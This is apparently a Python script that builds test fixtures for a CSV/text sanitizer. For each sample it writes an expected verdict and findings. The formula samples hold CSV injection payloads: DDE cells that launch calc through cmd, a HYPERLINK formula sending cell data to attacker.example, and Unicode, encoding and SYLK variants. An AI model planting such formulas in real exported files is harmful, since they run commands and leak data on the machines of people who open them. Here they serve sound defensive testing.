#!/usr/bin/env python3
"""Write the hand-made text and CSV samples of tests/corpus/files/text/.

Stdlib only. The detector tells CSV from plain text by the .csv name
(the bytes are text either way), so CSV samples are *.csv and plain
text samples *.txt. Each gets a sibling .expect (verdict and the
findings that must, or must not, be present) for `sanso file sanitize`.
Run: python3 tests/corpus/gen/text.py
"""

import os

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)),
                   "..", "files", "text")
FORMULA = [("csv.formula", "removed")]


def write(name, data, verdict, findings=(), absent=(), comment=""):
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)
    lines = ["# " + (comment or name)]
    lines.append("verdict " + verdict)
    for code, action in findings:
        lines.append("finding %s %s" % (code, action))
    for code in absent:
        lines.append("no-finding " + code)
    with open(os.path.join(OUT, name + ".expect"), "w") as f:
        f.write("\n".join(lines) + "\n")


def formulas():
    write("dde_cmd.csv",
          "name,value\r\nA,=cmd|'/c calc'!A0\r\nB,-cmd|'/c calc'!A0\r\n",
          "sanitized", FORMULA, comment="DDE command cells (= and - forms)")
    write("hyperlink.csv",
          'id,link\r\n1,"=HYPERLINK(""http://attacker.example/?""&A1,""click"")"\r\n',
          "sanitized", FORMULA,
          comment="quoted HYPERLINK formula with doubled quotes (data exfiltration)")
    write("at_sum.csv", "a,b\r\n1,@SUM(1+1)*cmd|' /C calc'!A0\r\n",
          "sanitized", FORMULA, comment="@ (Lotus-style) formula with DDE")
    write("arithmetic.csv", "a,b\r\nx,-2+3\r\ny,+1+1\r\n",
          "sanitized", FORMULA, comment="sign-started arithmetic is a formula")
    write("leading_blanks_quotes.csv",
          'a,b,c\r\n" =1+1",\t=2+2,"""@x"""\r\n',
          "sanitized", FORMULA,
          comment="formula after leading space, tab and doubled quotes")
    write("quoted_multiline.csv",
          'memo,f\r\n"line one\r\nline, two ""quoted""","\r\n=1+2"\r\n',
          "sanitized", FORMULA,
          comment="quoted cells with commas, CRLF and doubled quotes; the "
          "formula after a newline inside quotes")
    write("fullwidth_utf8.csv",
          "\ufeff項目,値\r\n式,\uff1dSUM(1)\r\n単価,\u3000\uff0bcmd|x!A0\r\n",
          "sanitized", FORMULA,
          comment="UTF-8 with BOM: full-width ＝ and ＋ after an ideographic space")
    write("fullwidth_sjis.csv",
          "項目,値\r\n式,\uff1dA1*2\r\n連絡先,\uff20x\r\n".encode("cp932"),
          "sanitized", FORMULA, comment="Shift_JIS full-width ＝ and ＠")
    write("semicolon_separated.csv",
          "a;b;c\r\n1;=1+1;x\r\n2;-5;y\r\n",
          "sanitized", FORMULA,
          comment="';'-separated (European Excel, LibreOffice): cells after ';'")
    write("utf16le.csv",
          "\ufeffa\tb\n1\t=cmd|' /c calc'!A0\n".encode("utf-16-le"),
          "sanitized", FORMULA,
          comment="UTF-16LE with BOM, tab-separated (Excel 'Unicode text'); "
          "LF line ends so the runner's UTF-8 csv reader copes")
    write("sylk_id_line.csv", "ID\r\nC;Y1;X1;K1\r\nE\r\n",
          "sanitized", FORMULA,
          comment="first line ID: Excel opens the file as SYLK, which runs "
          "formulas")


def clean():
    write("harmless_numbers.csv",
          "id,amount,rate,phone,memo\r\n"
          "1,-12.5,+3%,+81-3-1234-5678,-\r\n"
          "2,\"-1,234\",-1e-3,+81 (3) 1234 5678,--\r\n"
          "3,+81,-0.5,\"+1 555 0100\",\u2015\r\n",
          "clean", absent=["csv.formula"],
          comment="negative numbers, phone numbers and '-' placeholders stay")
    write("japanese_sjis.csv",
          "氏名,住所,電話\r\n山田太郎,東京都千代田区,03-1234-5678\r\n"
          "佐藤花子,\"大阪府大阪市, 北区\",－\r\n".encode("cp932"),
          "clean", absent=["csv.formula"],
          comment="Shift_JIS CSV (with a full-width － placeholder) passes "
          "byte for byte")
    write("japanese_utf8.csv",
          "\ufeff市区町村,人口\r\n横浜市,3770000\r\n川崎市,1540000\r\n",
          "clean", absent=["csv.formula"], comment="UTF-8 (BOM) CSV passes")
    write("plain.txt",
          "=cmd|' /c calc'!A0 is only text in a .txt file.\r\n"
          "お知らせ: 明日は休みです。\r\n",
          "clean", comment="plain text passes unchanged, formulas and all")
    write("japanese_sjis.txt",
          "会議の議事録\r\n－ 出席者: 五名\r\n".encode("cp932"),
          "clean", comment="Shift_JIS plain text")


def main():
    os.makedirs(OUT, exist_ok=True)
    formulas()
    clean()


if __name__ == "__main__":
    main()
